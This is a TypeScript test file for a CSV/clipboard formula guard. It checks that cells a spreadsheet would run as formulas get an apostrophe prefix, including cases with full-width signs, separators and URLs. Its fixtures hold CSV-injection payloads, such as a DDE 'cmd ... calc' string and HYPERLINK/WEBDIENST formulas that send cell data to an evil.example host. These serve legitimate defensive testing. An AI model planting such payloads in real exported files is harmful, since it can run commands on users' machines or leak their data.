import assert from "node:assert/strict";
import fc from "fast-check";
import Papa from "papaparse";
import { csvWriter, excelDialect, projectDialect } from "../../../src/research/files/csv.ts";
import type { CsvDialect } from "../../../src/research/files/csv.ts";
import { formulaGuard } from "../../../src/shared/formulaGuard.ts";
import { copyText } from "../../../src/webview/grid/copyFormats.ts";
import { tableOf } from "../webview/tables.ts";

/** What a spreadsheet runs when it is the beginning of a cell; in full width some do, too. */
function isFormula(cell: string): boolean {
  return /^[\t\r\n]*[=+\-@＝＋－＠]/u.test(cell);
}

const dialects: readonly CsvDialect[] = [projectDialect, excelDialect(";"), excelDialect(",")];

function written(rows: readonly (readonly string[])[], dialect: CsvDialect): string {
  return csvWriter(["a", "b"], dialect).cells(rows);
}

/** As Excel takes a file apart: quotes count at the beginning of a cell only. */
function cellsOf(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at < text.length;) {
    let cell = "";
    if (text[at] === '"') {
      for (at += 1; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at += 1) {
        cell += text[at] ?? "";
        at += text[at] === '"' ? 1 : 0;
      }
      at += 1;
    }
    for (
      ;
      at < text.length && text[at] !== delimiter && text[at] !== "\n" && text[at] !== "\r";
      at += 1
    ) {
      cell += text[at] ?? "";
    }
    at += 1;
    cells.push(cell);
  }
  return cells;
}

const hostile = fc.string({
  unit: fc.constantFrom(
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    '"',
    ";",
    ",",
    "\t",
    "\n",
    "\r",
    "a",
    "1",
    " ",
    "cmd|' /C calc'!A0",
  ),
});

describe("text that a spreadsheet would run", () => {
  for (const text of [
    "＝1+1",
    "＋1",
    "－best",
    "＠sum",
    "\nx",
    "\n=1",
    "\r\n=1",
    "'＝1",
    "''\n=1",
  ]) {
    it(`S6: gets an apostrophe: ${JSON.stringify(text)}`, () => {
      assert.equal(
        formulaGuard(",").guarded(text),
        formulaGuard(",").guarded(text).includes("\n'=")
          ? `'${text.replace("\n=", "\n'=")}`
          : `'${text}`,
      );
      assert.equal(formulaGuard(",").plain(formulaGuard(",").guarded(text)), text);
    });
  }

  it("S6: gets one behind every separator that may part it, too", () => {
    const cases = {
      "a;=cmd": "a;'=cmd",
      ";=cmd": ";'=cmd",
      "a\t@b": "a\t'@b",
      "a\n=b": "a\n'=b",
      "a;＝b": "a;'＝b",
      'a;"=b"': 'a;\'"=b"',
      "a;'=b": "a;''=b",
      "a;-2+3": "a;'-2+3",
      "=a;=b": "'=a;'=b",
      "a; -5": "a; -5",
      "1; -2; 3": "1; -2; 3",
      "a,=b": "a,=b",
    };
    for (const [text, cell] of Object.entries(cases)) {
      assert.equal(formulaGuard(",").guarded(text), cell);
    }
    assert.equal(formulaGuard(";").guarded("a,=b;=c"), "a,'=b;=c");
  });

  it("changes no URL, and quotes one that the delimiter can tear apart", () => {
    const urls = [
      "https://maps.example/@40.7,-74.0,15z",
      "http://example.com/a;b=-c",
      "https://example.com/a,'-74.0",
      "https://example.com/a;'-5,'-1",
      "HTTPS://EXAMPLE.COM/A;B",
      "ftp://example.com/a;-1",
      "https://пример.рф/путь;-1",
      "sc-domain://example.com/,-1",
    ];
    for (const dialect of [...dialects, excelDialect("\t")]) {
      for (const url of urls) {
        const [cell, after] = cellsOf(written([[url, "x"]], dialect), dialect.delimiter);
        assert.deepEqual([cell, after], [url, "x"]);
        assert.equal(formulaGuard(dialect.delimiter).guarded(url), url);
        assert.equal(formulaGuard(dialect.delimiter).plain(url), url);
      }
      const data = tableOf(urls.map((url) => ({ url })));
      const part = { data, columns: [0], rows: urls.map((_url, row) => row) };
      assert.deepEqual(copyText(part, "tsv", false, ",").split("\n"), urls);
    }
  });

  it("S6: is guarded in what only looks like a URL", () => {
    const texts = [
      "https://example.com/;=cmd|' /C calc'!A0",
      "https://example.com/;=cmd|'/Ccalc'!A0",
      'https://example.com/;=HYPERLINK("http://evil.example?"&A1)',
      "https://example.com/\t=1",
      "https://example.com/\n=1",
      "see https://example.com/;=1",
      "=https://example.com/",
      "-x://a;=1",
      "example.com/;=1",
    ];
    for (const text of texts) {
      assert.notEqual(formulaGuard(",").guarded(text), text);
      assert.equal(formulaGuard(",").plain(formulaGuard(",").guarded(text)), text);
    }
  });

  it("S6: is guarded in a URL, too, where a formula would begin behind another separator", () => {
    const urls = {
      "https://evil.example/?;=WEBDIENST(A2&A3)": "https://evil.example/?;'=WEBDIENST(A2&A3)",
      "https://evil.example/;＝A1": "https://evil.example/;'＝A1",
      "https://evil.example/;@SUM(A2)": "https://evil.example/;'@SUM(A2)",
      "https://evil.example/;-1+WEBDIENST(A2)": "https://evil.example/;'-1+WEBDIENST(A2)",
      "https://evil.example/;--A2": "https://evil.example/;'--A2",
      "https://evil.example/;'=A2": "https://evil.example/;''=A2",
      "https://maps.example/@40.7;-74.0;=A1": "https://maps.example/@40.7;-74.0;'=A1",
    };
    for (const [url, cell] of Object.entries(urls)) {
      assert.equal(formulaGuard(",").guarded(url), cell);
      assert.equal(formulaGuard(",").plain(cell), url);
    }
  });

  it("S6: begins no cell, whichever separator opens the file", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 4 }), (rows) => {
        for (const dialect of dialects) {
          for (const delimiter of [",", ";", "\t"]) {
            assert.deepEqual(
              cellsOf(written(rows, dialect), delimiter).filter(isFormula),
              [],
              `${dialect.delimiter} opened with ${delimiter}`,
            );
          }
        }
      }),
      { numRuns: 2000 },
    );
  });

  it("S6: reads back as it was, in every dialect", () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(hostile, fc.oneof(hostile, fc.string({ unit: "binary" }))), {
          minLength: 1,
          maxLength: 4,
        }),
        (rows) => {
          for (const dialect of dialects) {
            const { data } = Papa.parse<string[]>(written(rows, dialect), {
              delimiter: dialect.delimiter,
              newline: dialect.newline,
            });
            const guard = formulaGuard(dialect.delimiter);
            assert.deepEqual(
              data.slice(0, rows.length).map((cells) => cells.map((cell) => guard.plain(cell))),
              rows,
            );
          }
        },
      ),
      { numRuns: 1000 },
    );
  });

  it("S6: reads back from files of 0.4.0 as it did", () => {
    const cells = {
      "'=1+1": "=1+1",
      "'+1": "+1",
      "'-best coffee": "-best coffee",
      "'@sum": "@sum",
      "'\tx": "\tx",
      "'\rx": "\rx",
      "''=b": "'=b",
      "'quoted'": "'quoted'",
      "a;=b": "a;=b",
      "＝1": "＝1",
      "\nx": "\nx",
      "-5": "-5",
      "0; -5": "0; -5",
      "rock 'n' roll; '-5'": "rock 'n' roll; '-5'",
    };
    for (const [cell, text] of Object.entries(cells)) {
      assert.equal(formulaGuard(",").plain(cell), text);
    }
  });

  it("S6: leaves numbers alone", () => {
    assert.equal(csvWriter(["a", "b"]).cells([[-1.5, [1, -2, -3]]]), "-1.5,1; -2; -3\n");
  });

  it("S6: is guarded on the clipboard, too", () => {
    const data = tableOf([
      { keyword: "=b" },
      { keyword: "＝b" },
      { keyword: "a;=b" },
      { keyword: "tea" },
    ]);
    const part = { data, columns: [0], rows: [0, 1, 2, 3] };
    assert.equal(copyText(part, "tsv", false, ","), "'=b\n'＝b\na;'=b\ntea");
    assert.equal(copyText(part, "csv", false, ","), "'=b\r\n'＝b\r\na;'=b\r\ntea");
  });
});
